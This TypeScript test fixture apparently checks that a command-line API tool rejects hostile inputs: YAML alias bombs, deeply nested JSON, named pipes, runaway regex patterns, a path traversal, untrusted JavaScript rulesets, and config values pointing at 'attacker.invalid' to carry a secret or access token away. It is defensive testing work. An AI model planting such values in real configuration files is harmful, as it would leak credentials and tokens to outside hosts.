import type { Ground } from './repository.ts';
import { aliasBomb, catastrophic, deepJson, many } from './texts.ts';

/** A file that one command reads besides the artifacts, and what has to come of it. */
export interface Input {
  readonly name: string;
  readonly args: readonly string[];
  readonly code: number;
  /** A pattern of the output. */
  readonly expected: RegExp;
  make(ground: Ground): unknown;
}

const bomb = '100,000 values';
const overrides = 'overrides.yaml';
const plan = ['plan', '--overrides', overrides];

/** Each stops its command, or is attacked alone: none would be reached behind another one. */
export const inputs: readonly Input[] = [
  file('a bomb of aliases as project file', ['lint'], 'apimkit.yaml', aliasBomb('artifacts: artifacts\n'), bomb),
  file('a bomb as override file', plan, overrides, aliasBomb('backends: []\n'), bomb),
  file('a bomb as values', [...plan, '--values', 'values.yaml'], 'values.yaml', aliasBomb(), bomb, {
    [overrides]: 'backends: []\n',
  }),
  file('a bomb as filter', ['extract', '--out', 'new', '--filter', 'filter.yaml'], 'filter.yaml', aliasBomb(), bomb),
  file('a bomb as ruleset', ['lint'], '.spectral.yaml', aliasBomb('rules: {}\n'), bomb),
  file('a bomb as configuration of Redocly', ['lint'], 'redocly.yaml', aliasBomb('extends: []\n'), bomb),
  file('a bomb as rules of policies', ['lint'], 'house.yaml', aliasBomb('rules: []\n'), bomb, {
    'apimkit.yaml': 'artifacts: artifacts\nlint: { policies: { extends: [./house.yaml] } }\n',
  }),
  file('a deep baseline', ['lint', '--baseline', 'b.json'], 'b.json', deepJson(), 'nested too deeply'),
  file(
    'a deep list of accepted breaks',
    ['breaking', '--base', 'HEAD', '--accepted', 'b.json'],
    'b.json',
    deepJson(),
    'nested too deeply',
  ),
  file('deep overrides', plan, overrides, deepJson(), 'too deeply|nested more than'),
  file(
    'a deep filter',
    ['extract', '--out', 'new', '--filter', 'filter.yaml'],
    'filter.yaml',
    deepJson(),
    'too deeply',
  ),
  file('a deep project file', ['rules'], 'apimkit.yaml', `lint: ${deepJson()}`, 'too deeply|nested more than'),
  pipe('project file', ['lint', '--project', 'x.yaml'], 'x.yaml'),
  pipe('baseline', ['lint', '--baseline', 'x'], 'x'),
  pipe('baseline that is updated', ['lint', '--baseline', 'x', '--update-baseline'], 'x'),
  pipe('override file', ['plan', '--overrides', 'x'], 'x'),
  pipe('filter', ['extract', '--out', 'new', '--filter', 'x'], 'x'),
  pipe('ruleset', ['lint'], '.spectral.yaml'),
  pipe('list of ignored findings', ['lint'], '.redocly.lint-ignore.yaml', { 'redocly.yaml': 'extends: [minimal]\n' }),
  pipe('policy to format', ['fmt', 'x'], 'x'),
  file(
    'a pattern of names that never ends',
    plan,
    overrides,
    `names:\n  '*': { displayName: { pattern: '${catastrophic}', with: x } }\n`,
    'A pattern in the names.*more than 1 s',
    { 'artifacts/tags/many/tagInformation.json': JSON.stringify({ properties: { displayName: many } }) },
  ),
  {
    ...file(
      'names of many stars',
      ['extract', '--out', 'new', '--filter', 'f.yaml'],
      'f.yaml',
      `tags: ['${'*e'.repeat(60)}']\n`,
      '',
    ),
    code: 0,
  },
  file(
    'a link that carries a secret away',
    plan,
    overrides,
    'apis:\n  - name: orders\n    properties:\n      format: openapi-link\n      value: https://attacker.invalid/{#CANARY#}\n',
    'only sent with --trust',
  ),
  file(
    'a link that leads outside',
    plan,
    overrides,
    'apis:\n  - name: orders\n    properties:\n      format: openapi-link\n      value: ../outside/secret.yaml\n',
    'outside of this folder',
  ),
  file(
    'another endpoint',
    ['plan', '--env', 'dev'],
    'apimkit.yaml',
    'artifacts: artifacts\nenvironments: { dev: { service: s, resourceGroup: g, subscription: s, endpoint: https://attacker.invalid } }\n',
    'a file alone must not decide where the token is sent',
  ),
  file(
    'rules in JavaScript',
    ['lint'],
    'apimkit.yaml',
    'artifacts: artifacts\nlint: { policies: { extends: [./rules.mjs] } }\n',
    'not trusted',
  ),
  file(
    'a ruleset in JavaScript',
    ['lint'],
    'apimkit.yaml',
    'lint: { specifications: { extends: [./.spectral.js] } }\n',
    'not trusted',
  ),
  file(
    'functions of a ruleset',
    ['lint', '--ruleset', '.spectral.yaml'],
    'apimkit.yaml',
    'artifacts: artifacts\n',
    'not trusted',
  ),
];

function file(
  name: string,
  args: readonly string[],
  path: string,
  text: string,
  expected: string,
  others: Readonly<Record<string, string>> = {},
): Input {
  return {
    name,
    args,
    code: 2,
    expected: new RegExp(expected),
    make({ put }) {
      for (const [other, content] of Object.entries(others)) put(other, content);
      put(path, text);
    },
  };
}

function pipe(
  what: string,
  args: readonly string[],
  path: string,
  others: Readonly<Record<string, string>> = {},
): Input {
  return {
    name: `a pipe as ${what}`,
    args,
    code: 2,
    expected: /named pipe|cannot be read/,
    make(ground) {
      for (const [other, content] of Object.entries(others)) ground.put(other, content);
      ground.pipe(path);
    },
  };
}
